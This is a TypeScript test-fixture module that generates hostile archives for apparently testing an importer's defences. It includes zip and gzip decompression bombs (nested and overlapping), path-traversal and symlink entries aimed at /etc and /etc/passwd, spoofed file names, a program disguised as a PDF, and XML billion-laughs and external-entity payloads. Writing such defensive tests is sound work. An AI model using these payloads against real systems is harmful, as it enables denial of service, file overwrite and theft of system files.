/** Archives that lie, explode or reach outside. Each is a few megabytes at most. */
import { constants, crc32, deflateRawSync, gzipSync } from "node:zlib";
import { makeTar, makeZip, utf8, type ZipPart } from "./zips.ts";

const MiB = 1024 * 1024;
const letter = "Dear Ann, the amount due is 48.00 by 14 March 2024. Hollow Lane Window Cleaning.";

/** Packed zeros of so many pieces of 32 MiB, with their checksum, without ever holding them. */
function zeros(pieces: number): { packed: Uint8Array; bytes: number; crc: number } {
  const plain = Buffer.alloc(32 * MiB);
  // Ends on a whole byte, so that pieces can stand one behind the other.
  const piece = deflateRawSync(plain, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  let crc = 0;
  for (let i = 0; i < pieces; i++) crc = crc32(plain, crc);
  const end = deflateRawSync(Buffer.alloc(0));
  const packed = Buffer.concat([...Array.from({ length: pieces }, () => piece), end]);
  return { packed, bytes: pieces * plain.length, crc };
}

const entryOf = (name: string, z: ReturnType<typeof zeros>): ZipPart => ({
  name,
  bytes: "",
  packed: z.packed,
  says: { bytes: z.bytes, crc: z.crc, packed: z.packed.length },
});

const wrapped = (inner: Uint8Array, times: number, name: string): Uint8Array =>
  makeZip(
    Array.from({ length: times }, (_, i) => ({ name: `${name}-${i}.zip`, bytes: inner, method: 8 as const })),
  );

function nested(levels: number, width: number): Uint8Array {
  let zip = makeZip([entryOf("zeros.bin", zeros(2))]);
  for (let i = 0; i < levels; i++) zip = wrapped(zip, width, `level-${i}`);
  return zip;
}

/** Every entry of the directory names the same bytes: ten times a bomb of 32 MiB a few hundred times over. */
function sameBytes(entries: number): Uint8Array {
  const one = entryOf("0.bin", zeros(1));
  const first = makeZip([one]);
  return makeZip(
    [
      one,
      ...Array.from(
        { length: entries },
        (_, i): ZipPart => ({
          ...one,
          name: `${i + 1}.bin`,
          packed: new Uint8Array(0),
          says: { ...one.says, at: 0 },
        }),
      ),
    ],
    { comment: `${first.length}` },
  );
}

/**
 * The overlap of D. Fifield ("A better zip bomb", 2019): the bytes of each entry begin with a stored block that holds the
 * next one's local header, so that all share one kernel and no two begin at the same place.
 */
function quoted(count: number): Uint8Array {
  const kernel = zeros(1);
  const files: { header: Buffer; at: number; packed: number; bytes: number; crc: number; name: string }[] =
    [];
  let body = Buffer.from(kernel.packed);
  let bytes = kernel.bytes;
  const parts: Buffer[] = [body];
  const headOf = (name: string, packed: number, size: number) => {
    const h = Buffer.alloc(30 + name.length);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(8, 8);
    h.writeUInt32LE(packed, 18);
    h.writeUInt32LE(size, 22);
    h.writeUInt16LE(name.length, 26);
    h.write(name, 30, "latin1");
    return h;
  };
  let packed = body.length;
  for (let i = count - 1; i >= 0; i--) {
    const name = `f${i}`;
    const header = headOf(name, packed, bytes);
    files.unshift({ header, at: 0, packed, bytes, crc: 0, name });
    parts.unshift(header);
    if (i === 0) break;
    const block = Buffer.alloc(5);
    block.writeUInt16LE(header.length, 1);
    block.writeUInt16LE(~header.length & 0xffff, 3);
    parts.unshift(block);
    packed += header.length + 5;
    bytes += header.length;
  }
  body = Buffer.concat(parts);
  let at = 0;
  const directory = files.map((f, i) => {
    const e = Buffer.alloc(46 + f.name.length);
    e.writeUInt32LE(0x02014b50, 0);
    e.writeUInt16LE(20, 6);
    e.writeUInt16LE(8, 10);
    e.writeUInt32LE(f.packed, 20);
    e.writeUInt32LE(f.bytes, 24);
    e.writeUInt16LE(f.name.length, 28);
    e.writeUInt32LE(at, 42);
    e.write(f.name, 46, "latin1");
    at += f.header.length + (i < files.length - 1 ? 5 : 0);
    return e;
  });
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, list, end]);
}

const zipOf = (...parts: ZipPart[]): Uint8Array => makeZip(parts);
const text = (name: string | Uint8Array, more: Partial<ZipPart> = {}): ZipPart => ({
  name,
  bytes: letter,
  ...more,
});

const entities = Array.from({ length: 10 }, (_, i) =>
  i === 0 ? '<!ENTITY a0 "lol">' : `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`,
).join("");
const enex = (dtd: string, body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE en-export SYSTEM "http://xml.evernote.com/pub/evernote-export4.dtd"${dtd && ` [${dtd}]`}><en-export><note><title>Note</title><content><![CDATA[<en-note>${body}</en-note>]]></content></note></en-export>`;

/** Name as it is sent, and bytes. `outside` is an address on this machine that must see no call. */
export const hostileArchives: Record<string, (outside: string) => Uint8Array> = {
  "bomb-flat.zip": () => zipOf(entryOf("zeros.bin", zeros(32))),
  "bomb-many.zip": () => {
    const z = zeros(3);
    return makeZip(Array.from({ length: 40 }, (_, i) => entryOf(`${i}.bin`, z)));
  },
  "bomb-nested.zip": () => nested(5, 6),
  "nested-deep.zip": () => nested(40, 1),
  "overlap-same.zip": () => sameBytes(300),
  "overlap-quoted.zip": () => quoted(200),
  "says-small.zip": () => zipOf({ ...entryOf("small.txt", zeros(2)), says: { bytes: 10, crc: 0 } }),
  "says-huge.zip": () => zipOf(text("huge.txt", { says: { bytes: 0xfffffff0 } })),
  "says-past-end.zip": () => zipOf(text("past.txt", { says: { packed: 90_000_000 } })),
  "says-elsewhere.zip": () => zipOf(text("elsewhere.txt", { says: { at: 0x7fffffff } })),
  "says-many.zip": () => {
    const zip = Buffer.from(zipOf(text("one.txt")));
    zip.writeUInt16LE(0xfff0, zip.length - 12);
    zip.writeUInt16LE(0xfff0, zip.length - 14);
    return zip;
  },
  "slip.zip": () => zipOf(text("../../../outside.txt"), text("a/../../b.txt"), text("good.txt")),
  "slip-absolute.zip": () => zipOf(text("/etc/cron.d/x"), text("C:\\Windows\\x.txt"), text("..\\..\\x.txt")),
  "slip-link.zip": () =>
    zipOf({ name: "link", bytes: "/etc", mode: 0o120777 }, text("link/passwd"), {
      name: "self",
      bytes: "self",
      mode: 0o120777,
    }),
  "names-nul.zip": () => zipOf(text("a\0b.txt"), text("\0"), text(Uint8Array.of(0xff, 0xfe, 0x00))),
  "names-long.zip": () => zipOf(text(`${"n".repeat(65_000)}.txt`)),
  "names-bidi.zip": () =>
    zipOf(text("bill\u202Efdp.exe"), text("\u2066\u2067.txt"), text("\u0301".repeat(300))),
  "names-same.zip": () => makeZip(Array.from({ length: 300 }, () => text("same.txt"))),
  "folders-only.zip": () =>
    makeZip(Array.from({ length: 30_000 }, (_, i) => ({ name: `f${i}/`, bytes: "" }))),
  "locked.zip": () => zipOf(text("locked.txt", { flags: 1, packed: Buffer.alloc(80, 7) })),
  "cut-off.zip": () => zipOf(text("a.txt"), text("b.txt")).slice(0, 90),
  "program.zip": () => zipOf({ name: "bill.pdf", bytes: Buffer.concat([utf8("MZ\0\0"), Buffer.alloc(200)]) }),
  "bomb.tar.gz": () => {
    const head = gzipSync(makeTar([{ name: "a.txt", bytes: letter }]).subarray(0, 1024), { level: 9 });
    const z = gzipSync(Buffer.alloc(256 * MiB), { level: 9 });
    return Buffer.concat([head, z]);
  },
  "slip.tar.gz": () =>
    gzipSync(
      makeTar([
        { name: "../../x.txt", bytes: letter },
        { name: "dev", bytes: "", type: "3" },
        { name: "l", bytes: "", type: "2" },
      ]),
    ),
  "laughs.enex": () => utf8(enex(entities, "&a9;")),
  "outside.enex": (outside) =>
    utf8(
      enex(
        `<!ENTITY x SYSTEM "${outside}/enex"><!ENTITY % p SYSTEM "${outside}/p">%p;`,
        `&x;<img src="${outside}/i"/>`,
      ),
    ),
  "deep.enex": () => utf8(enex("", `${"<div>".repeat(100_000)}x`)),
  "one-line.mbox": () => utf8(`From a@b Mon Mar  4 10:00:00 2024\nSubject: x\n\n${"x".repeat(20 * MiB)}`),
  "paperless-slip.zip": () =>
    zipOf(
      {
        name: "manifest.json",
        bytes: JSON.stringify([
          {
            model: "documents.document",
            pk: 1,
            fields: { title: "x", checksum: "0", mime_type: "application/pdf", created: "2024-01-01" },
            __exported_file_name__: "../../../../etc/passwd",
          },
        ]),
      },
      { name: "metadata.json", bytes: '{"version":"2.14.0"}' },
    ),
};
